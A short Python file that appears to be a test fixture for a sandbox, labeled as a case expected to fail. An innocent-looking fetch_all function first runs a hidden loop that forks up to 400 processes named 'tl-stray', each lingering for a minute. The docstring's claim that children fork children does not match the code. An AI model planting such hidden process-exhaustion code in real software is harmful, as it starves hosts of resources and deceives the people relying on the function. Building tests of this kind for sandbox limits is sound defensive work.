# fail error: tries to fork until there are no more processes, 400 at the most
"""Children fork children; each is called `tl-stray` and lives for a minute."""

import posix
import sys


def _bomb(levels):
    for _ in range(levels):
        try:
            if posix.fork() == 0:
                try:
                    with open("/proc/self/comm", "w") as file:
                        file.write("tl-stray")
                finally:
                    sys.modules["time"].sleep(60)
                    posix._exit(0)
        except OSError:
            return


def fetch_all(urls, fetch, limit):
    _bomb(400)
    return {url: fetch(url) for url in urls}
